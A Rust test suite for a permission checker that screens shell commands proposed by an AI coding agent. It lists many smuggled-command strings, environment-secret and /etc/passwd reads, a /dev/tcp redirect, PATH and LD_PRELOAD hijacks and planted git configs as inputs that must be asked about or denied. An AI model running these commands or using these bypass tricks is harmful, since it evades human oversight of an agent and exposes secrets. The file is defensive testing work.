//! Rules about commands, part by part.

use super::bench::{Bench, link};

#[test]
fn exact_prefix_and_pattern() {
    Bench::new().rules(&["allow Bash(npm run test)"]).check(&[
        ("Bash npm run test", "allow rule"),
        ("Bash  npm run test ", "allow rule"),
        ("Bash npm run test --x", "ask"),
        ("Bash npm  run   test", "allow subcommandResults"),
    ]);
    for rule in ["allow Bash(git *)", "allow Bash(git:*)"] {
        Bench::new().rules(&[rule]).check(&[
            ("Bash git", "allow subcommandResults"),
            ("Bash git push origin", "allow subcommandResults"),
            ("Bash gitx push", "ask"),
            ("Bash  git push", "allow subcommandResults"),
        ]);
    }
    Bench::new()
        .rules(&["allow Bash(git * main)"])
        .check(&[("Bash git push main", "allow subcommandResults"), ("Bash git push dev", "ask")]);
    Bench::new().rules(&["allow Bash(npm*)"]).check(&[("Bash npmx", "allow subcommandResults")]);
    Bench::new()
        .rules(&["allow Bash(rmx \\*)"])
        .check(&[("Bash rmx *", "allow rule"), ("Bash rmx a", "ask")]);
    Bench::new().rules(&["allow Bash(touch b.txt && rm b.txt)"]).check(&[
        ("Bash touch b.txt && rm b.txt", "allow rule"),
        ("Bash touch b.txt && rm a.txt", "ask"),
    ]);
}

#[test]
fn an_allowed_prefix_smuggles_nothing() {
    let bench =
        Bench::new().rules(&["allow Bash(git *)", "allow Bash(touch *)", "allow Bash(echo *)"]);
    for command in [
        "git push && rm x",
        "git push; rm x",
        "git push || rm x",
        "git push | sh",
        "git push & rm x",
        "git push\nrm x",
        "git push $(rm x)",
        "git push `rm x`",
        "git push <(rm x)",
        "git push \"$(rm x)\"",
        "git push > out.txt",
        "git push <<EOF\n$(rm x)\nEOF",
        "(git push; rm x)",
        "if git push; then rm x; fi",
        "for i in $(rm x); do git push; done",
        "git() { rm x; }; git push",
        "PATH=. git push",
        "LD_PRELOAD=x git push",
        "GIT_SSH_COMMAND=x git push",
        "env git push",
        "sudo git push",
        "bash -c 'git push'",
        "xargs git push",
        "$x git push",
        "./git push",
        "./timeout 5 git push",
        "PATH=. timeout 5 git push",
        "git push ${x@P}",
        "echo $((a[$(rm x)]))",
        "case x in *) git push;; esac",
        "git push 'open",
        "touch ../outside/x",
        "touch /etc/x",
        "touch $x",
        "echo x > $y",
        "git push >| out.txt",
        "git push &> out.txt",
        "git push >& out.txt",
        "git push <> out.txt",
        "git push 3> out.txt",
        "git push {a,$(rm x)}",
        "git push $[ $(rm x) ]",
        "git push <<< \"$(rm x)\"",
        "a=$(rm x) git push",
        "[[ $(rm x) ]] && git push",
        "export A=$(rm x); git push",
        "declare A=$(rm x)",
        "{ git push; rm x; }",
        "! rm x",
        "coproc rm x",
        "exec rm x",
        "function git { rm x; }; git push",
        "alias git='rm x'\ngit push",
        "hash -p /bin/rm git; git push",
        "git push # note\nrm x",
        "while git push; do rm x; done",
        "select i in $(rm x); do git push; done",
        "time rm x",
        "echo a | while read -r b; do rm x; done",
        "git push > /dev/tcp/10.0.0.1/80",
        "echo ${x:=$(rm x)}",
        "echo \"${x/`rm x`/}\"",
        "command time -o out.txt -f 'rm x' git push",
        "\\time -o out.txt git push",
        "for PATH in .; do git push; done",
        "for IFS in x; do git push; done",
    ] {
        let found = bench.short(&format!("Bash {command}"));
        assert!(found.starts_with("ask"), "{command:?}: {found}");
    }
    bench.check(&[
        ("Bash git push && git pull", "allow subcommandResults"),
        ("Bash git push && ls", "allow subcommandResults"),
        ("Bash git push 2>&1 | head -n 3", "allow subcommandResults"),
        ("Bash timeout 5 git push", "allow subcommandResults"),
        ("Bash RUST_LOG=debug git push", "allow subcommandResults"),
        ("Bash git commit -m 'a && rm x'", "allow subcommandResults"),
        ("Bash git commit -m \"$(cat <<'EOF'\nit's; rm x\nEOF\n)\"", "allow subcommandResults"),
        ("Bash touch a.txt", "allow subcommandResults"),
        ("Bash if git fetch; then git pull; fi", "allow subcommandResults"),
    ]);
}

#[test]
fn a_denied_command_is_found_wherever_it_hides() {
    let bench = Bench::new().rules(&["allow Bash", "deny Bash(rm *)"]);
    for command in [
        "rm x",
        "rm",
        "ls && rm x",
        "ls | rm x",
        "echo $(rm x)",
        "echo `rm x`",
        "(rm x)",
        "if true; then rm x; fi",
        "sudo rm x",
        "sudo -u root rm x",
        "env A=b rm x",
        "A=b rm x",
        "timeout 5 rm x",
        "bash -c 'rm x'",
        "bash -c 'ls; rm x'",
        "eval 'rm x'",
        "xargs rm < list",
        "find . -exec rm {} +",
        "/bin/rm x",
        "r\\m x",
        "'rm' x",
        "\"rm\" x",
        "f() { rm x; }; f",
        "case x in *) rm x;; esac",
        "nohup rm x &",
        "cat <<EOF\n$(rm x)\nEOF",
        "trap 'rm x' EXIT",
        "! rm x",
        "{ rm x; }",
        "exec rm x",
        "command rm x",
        "time rm x",
        "find . -execdir rm {} ';'",
        "find . -ok rm {} ';'",
        "[[ -n $(rm x) ]]",
        "a=$(rm x)",
        "echo \"${x:-$(rm x)}\"",
        "cat <<< $(rm x)",
        "while true; do rm x; done",
        "echo a | xargs -I{} rm {}",
        "echo x > >(rm x)",
    ] {
        let found = bench.short(&format!("Bash {command}"));
        assert_eq!(found, "deny subcommandResults", "{command}");
    }
    bench.check(&[
        ("Bash ls", "allow rule"),
        ("Bash echo rm x", "allow rule"),
        ("Bash rmdir x", "allow rule"),
        // The command that it runs is unknown, so it may be one that the rule forbids.
        ("Bash $x y", "ask other"),
        ("Bash eval \"$x\"", "ask other"),
        ("Bash bash -c \"$x\"", "ask other"),
        ("Bash alias x=rm\nx y", "ask other"),
        ("Bash $'rm' x", "ask other"),
        ("Bash coproc rm x", "ask other"),
        ("Bash $'\\x72m' x", "ask other"),
    ]);
    assert_eq!(
        bench.denial("Bash rm a.txt").message,
        "Permission to use Bash with command rm a.txt has been denied."
    );
}

#[test]
fn commands_that_only_seem_to_read_need_approval() {
    let bench = Bench::new();
    for command in [
        "git -c core.fsmonitor=x status",
        "git --exec-path=. status",
        "git log --output=x",
        "git diff --ext-diff",
        "git branch -D x",
        "git branch new",
        "git -C /etc status",
        "sort -o out a.txt",
        "sort --compress-program=x a.txt",
        "sed -n 'w out' a.txt",
        "sed -n '1e rm x' a.txt",
        "sed -i s/a/b/ a.txt",
        "rg --pre x word",
        "tree -o out",
        "uniq a.txt out",
        "find . -fprintf out x",
        "find . -fls out",
        "find . -delete",
        "awk 'BEGIN { system(\"rm x\") }'",
        "cat a.txt > out",
        "echo hi | tee out",
        "date -s 2020-01-01",
        "ls | xargs rm",
        "cat /etc/passwd",
        "cat ../outside/b.txt",
        "cat $HOME/x",
        "cat ~/x",
        "ls; env",
        "printenv",
        "git diff /etc/passwd a.txt",
        "git diff ../outside/b.txt a.txt",
        "date -f ../outside/b.txt",
        "find -O3 ../outside",
        "for i in 1 2 3; do cd ..; done; cat etc/passwd",
        "for i in 1 2 3; do cd src; done; cat x",
        "f() { cd src; }; f; f; cat x",
        "echo $(date)",
        "echo `date`",
        "cat <(ls)",
        // Links lead out of the folder.
        "grep -R x .",
        "grep -rnR x src",
        "grep --deref x .",
        "rg -L x",
        "rg --follow x .",
        "fd -L x",
        "find -L . -name x",
        "find . -follow",
        "ls -RL",
        "du --dereference .",
        "tree -l",
        "diff -r src src",
        // What is in the environment may be a secret.
        "echo $TOKEN",
        "echo \"${TOKEN:-none}\"",
        "cat <<EOF\n$TOKEN\nEOF",
        "printf %s \"$x$API_KEY\"",
        "jq -n env",
        "jq -n '$ENV.TOKEN'",
        "jq -n \"$x\"",
        "jq -f program.jq a.txt",
        "jq --rawfile a /etc/passwd . a.txt",
        "ps auxe",
        "ps eww",
        // Names that only the shell knows.
        "cat a{,/../../../etc/passwd}",
        "cat {a.txt,/etc/passwd}",
        "cat ~root/x",
        "cat $'\\x2fetc\\x2fpasswd'",
        "{rm,x}",
        "ls\u{a0}-la",
        "l\\s; r\\m x",
        "ls #c\nrm x",
        "cat <> a.txt",
        "echo x >| out",
        "ls &> out",
        "command time -o out ls",
        "nice time -o out ls",
        "hash -p /tmp/evil ls; ls",
        "enable -f x y",
        "mapfile -C 'rm x' -c 1 < a.txt",
        "test -v 'a[$(rm x)]'",
        "wc --files0-from=/etc/hosts",
        "grep -f/etc/passwd a.txt",
        "diff --from-file=/etc/passwd a.txt",
        "git grep -O x",
        "git --git-dir=/tmp/x status",
        "cd",
        "cd && cat x",
        "cd - && cat x",
        "pushd / && cat etc/passwd",
    ] {
        let found = bench.short(&format!("Bash {command}"));
        assert!(found.starts_with("ask"), "{command:?}: {found}");
    }
}

/// The official CLI asks about these, too. What they do is known for certain, so nobody is asked here.
#[test]
fn certain_reads_need_no_approval() {
    let bench = Bench::new();
    for command in [
        "(ls)",
        "{ ls; }",
        "ls & pwd",
        "time ls",
        "nice ls",
        "git -C . status",
        "x=1; echo $x",
        "x=; echo ${x:-y}",
        "echo $HOME $? $$ $RANDOM",
        "for i in a b; do echo $i; done",
        "echo {a,b}",
        "cat <<EOF\nhello $USER\nEOF",
        "grep -rn x .",
        "jq .environment a.txt",
        "ps -ef",
        "ps aux",
        "find . -name 'a*'",
        "cargo --version",
    ] {
        assert_eq!(bench.short(&format!("Bash {command}")), "allow subcommandResults", "{command}");
    }
}

#[test]
fn a_pattern_does_not_lead_out_through_a_symlink() {
    let bench = Bench::new();
    link(&bench.outside, &bench.project.join("door"));
    link(&bench.outside.join("b.txt"), &bench.project.join("peephole"));
    for command in ["cat d??r/b.txt", "cat peep*", "grep -r x d*", "head < peep*"] {
        assert_eq!(bench.short(&format!("Bash {command}")), "ask workingDir", "{command}");
    }
    bench.check(&[
        ("Bash cat *.txt", "allow subcommandResults"),
        ("Bash cat none*", "allow subcommandResults"),
    ]);
}

/// The settings of a repository make git run programs, and a bare one is made of plain files.
#[test]
fn git_in_a_bare_repository_needs_approval() {
    let bench = Bench::new().mode("acceptEdits");
    for name in ["HEAD", "objects", "refs"] {
        std::fs::create_dir_all(bench.project.join("src/planted").join(name)).unwrap();
    }
    std::fs::create_dir(bench.project.join("src/planted/refs/heads")).unwrap();
    bench.check(&[
        ("Bash git status", "allow subcommandResults"),
        ("Bash git -C src status", "allow subcommandResults"),
        ("Bash git -C src/planted status", "ask other"),
        ("Bash git -C src/planted/refs/heads status", "ask other"),
        ("Bash cd src/planted && git log", "ask other"),
        ("Bash cd src/planted && timeout 5 git log", "ask other"),
        ("Bash cd src/planted && ls", "allow subcommandResults"),
    ]);
    // A folder of that name alone is no repository, so `git` would go on to the bare one.
    let own = bench.project.join("src/planted/.git");
    std::fs::create_dir(&own).unwrap();
    bench.check(&[("Bash git -C src/planted status", "ask other")]);
    for name in ["objects", "refs"] {
        std::fs::create_dir(own.join(name)).unwrap();
    }
    std::fs::write(own.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    bench.check(&[("Bash git -C src/planted status", "allow subcommandResults")]);
    std::fs::write(own.join("config"), "[diff]\n\texternal = ./evil\n").unwrap();
    bench.check(&[("Bash git -C src/planted diff", "ask other")]);
}

#[test]
fn a_file_command_is_seen_through_a_shortened_option() {
    let bench = Bench::new().mode("acceptEdits");
    std::fs::create_dir(bench.project.join(".git")).unwrap();
    bench.check(&[
        ("Bash cp a.txt --target-directory src", "allow subcommandResults"),
        ("Bash cp a.txt --target-dir .git/hooks", "ask safetyCheck"),
        ("Bash cp a.txt --target-dir=.git/hooks", "ask safetyCheck"),
        ("Bash mv a.txt --target .git/hooks", "ask safetyCheck"),
    ]);
}

#[test]
fn an_allowed_program_reads_within_the_working_directories() {
    let bench = Bench::new().rules(&["allow Bash(cat *)", "allow Bash(git *)"]);
    bench.check(&[
        ("Bash cat a.txt", "allow subcommandResults"),
        ("Bash cat ../outside/b.txt", "ask workingDir"),
        ("Bash cat < ../outside/b.txt", "ask workingDir"),
        ("Bash cat \"$x\"", "ask other"),
        ("Bash git diff main a.txt", "allow subcommandResults"),
        ("Bash git diff ../outside/b.txt a.txt", "ask workingDir"),
        ("Bash git -C ../outside log", "ask workingDir"),
    ]);
    let bench = bench.rules(&["allow Read(/OUTSIDE/**)"]);
    bench.check(&[("Bash cat ../outside/b.txt", "allow subcommandResults")]);
}
